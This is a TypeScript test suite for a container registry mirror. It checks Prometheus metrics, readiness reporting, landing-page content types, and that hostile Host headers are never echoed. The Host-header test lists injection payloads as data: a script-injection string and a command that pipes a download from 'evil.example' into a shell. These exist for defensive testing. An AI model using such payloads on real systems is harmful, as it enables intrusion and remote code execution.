import assert from "node:assert/strict";
import { test } from "node:test";
import { makeImage } from "../kit/images.ts";
import { startRegistry, type Answer } from "../kit/registry.ts";
import { startUpstream } from "../kit/upstream.ts";
import { jsonOf, layerOf } from "../registry/clients.ts";
import { connectTo } from "./raw.ts";

/** Of product.md, those whose parts exist. */
const METRICS: Record<string, string[]> = {
  entrepot_http_requests_total: ["handler", "method", "code"],
  entrepot_http_request_duration_seconds: ["handler", "method"],
  entrepot_http_requests_in_flight: [],
  entrepot_build_info: ["version", "node"],
  entrepot_cache_requests_total: ["upstream", "kind", "result"],
  entrepot_cache_served_bytes_total: ["upstream", "source"],
  entrepot_cache_bytes: ["upstream"],
  entrepot_upstream_requests_total: ["upstream", "kind", "code"],
  entrepot_upstream_request_duration_seconds: ["upstream", "kind"],
  entrepot_upstream_received_bytes_total: ["upstream"],
  entrepot_upstream_up: ["upstream"],
  entrepot_upstream_ratelimit_remaining: ["upstream"],
  entrepot_upstream_ratelimit_limit: ["upstream"],
  entrepot_blobs_bytes: ["kind"],
  entrepot_storage_free_bytes: [],
};

const SAMPLE =
  /^([a-zA-Z_:][a-zA-Z0-9_:]*)(?:\{((?:[a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\\n]|\\[\\n"])*",?)*)\})? (?:[+-]?[0-9.]+(?:e[+-]?[0-9]+)?|[+-]Inf|NaN)$/;

test("metrics are valid Prometheus text, with the names and labels that are promised, and no repository in them", async () => {
  const image = makeImage({ layers: [50_000] });
  await using upstream = await startUpstream({ rateLimit: { limit: 100, remaining: 90, windowSeconds: 3600 } });
  upstream.add("owner/app-of-somebody", "1", image);
  await using mirror = await startRegistry({ upstreams: { "docker.io": upstream } });
  await mirror.get("/v2/owner/app-of-somebody/manifests/1");
  await mirror.pullBlob("owner/app-of-somebody", layerOf(image).digest);
  await mirror.get("/v2/owner/app-of-somebody/manifests/none");
  await mirror.send("PROPFIND", "/v2/");
  const answer = await mirror.get("/metrics");
  assert.equal(answer.headers["content-type"], "text/plain; version=0.0.4; charset=utf-8");
  const text = answer.bytes.toString();
  const labelsOf = new Map<string, Set<string>>();
  for (const line of text.trimEnd().split("\n")) {
    if (/^# (?:HELP|TYPE) [a-z_]+ .+$/.test(line) || line === "") continue;
    const [, name = "", labels = ""] = SAMPLE.exec(line) ?? assert.fail(`not a sample: ${line}`);
    const base = name.replace(/_(?:bucket|sum|count)$/, "");
    const seen = labelsOf.get(base) ?? new Set();
    for (const [, label = ""] of labels.matchAll(/([a-z_]+)="/g)) seen.add(label);
    labelsOf.set(base, seen.difference(new Set(["le"])));
  }
  for (const [name, labels] of Object.entries(METRICS)) {
    assert.deepEqual(labelsOf.get(name), new Set(labels), name);
    assert.match(text, new RegExp(`^# HELP ${name} .`, "m"));
  }
  assert.doesNotMatch(text, /app-of-somebody|PROPFIND|sha256/);
  assert.equal(await mirror.metric("entrepot_upstream_ratelimit_remaining"), 89);
  assert.equal(await mirror.metric("entrepot_http_requests_total", { method: "other" }), 1);
});

test("liveness, and readiness with reasons: an upstream that is away is told and keeps nobody from serving", async () => {
  const image = makeImage({ layers: [10] });
  await using upstream = await startUpstream();
  upstream.add("library/app", "1", image);
  await using mirror = await startRegistry({ upstreams: { "docker.io": upstream } });
  assert.deepEqual(jsonOf(await mirror.get("/livez")), { status: "alive" });
  const ready = await mirror.get("/readyz");
  assert.equal(ready.status, 200);
  type Check = { name: string; ok: boolean; reason: string };
  const checks = (answer: Answer): Check[] => jsonOf(answer)["checks"] as Check[];
  assert.deepEqual(
    checks(ready).map(({ name, ok }) => [name, ok]),
    [
      ["running", true],
      ["database", true],
      ["space", true],
      ["upstream docker.io", true],
    ],
  );
  for (const { reason } of checks(ready)) assert.ok(reason.length > 5);
  await upstream.stop();
  for (let i = 0; i < 3; i++) await mirror.get("/v2/library/app/manifests/1");
  const alone = await mirror.get("/readyz");
  assert.equal(alone.status, 200);
  assert.deepEqual(
    checks(alone)
      .filter(({ ok }) => !ok)
      .map(({ name }) => name),
    ["upstream docker.io"],
  );
});

test("the first page is always there, as HTML for browsers and as text for the rest", async () => {
  await using mirror = await startRegistry({ upstreams: { "docker.io": { url: "http://127.0.0.1:1" } } });
  for (const [accept, type] of [
    ["text/html,application/xhtml+xml,*/*;q=0.8", "text/html; charset=utf-8"],
    ["*/*", "text/plain; charset=utf-8"],
    ["application/json", "text/plain; charset=utf-8"],
    ["nonsense;;,q=", "text/plain; charset=utf-8"],
  ] as const) {
    const answer = await mirror.get("/", { accept });
    assert.equal(answer.status, 200, accept);
    assert.equal(answer.headers["content-type"], type);
    assert.match(answer.bytes.toString(), /registry-mirrors/);
    assert.equal((await mirror.send("HEAD", "/", { accept })).status, 200);
  }
  const html = await mirror.get("/", { accept: "text/html" });
  assert.match(String(html.headers["content-security-policy"]), /default-src 'none'/);
});

test("a hostile Host header is repeated nowhere", async () => {
  await using mirror = await startRegistry({ upstreams: { "docker.io": { url: "http://127.0.0.1:1" } } });
  for (const host of [
    "evil:x@ok",
    '"><script>alert(1)</script>',
    'a"]\nx',
    "evil.example/path",
    "x'; curl evil.example | sh",
    "",
  ]) {
    for (const accept of ["text/html", "*/*"]) {
      using client = await connectTo(mirror.url);
      client.send("GET / HTTP/1.1", `Host: ${host.replace("\n", " ")}`, `Accept: ${accept}`, "Connection: close");
      await client.closed;
      if (client.text.startsWith("HTTP/1.1 400 ")) continue;
      assert.match(client.text, /^HTTP\/1\.1 200 /, host);
      assert.doesNotMatch(client.text, /<script|evil|curl|@ok/, host);
    }
  }
  for (const host of ["mirror.example.com", "mirror:5000", "10.0.0.1:5000", "[::1]:5000"]) {
    const page = (await mirror.get("/", { host })).bytes.toString();
    assert.ok(page.includes(`"http://${host}"`), host);
  }
});
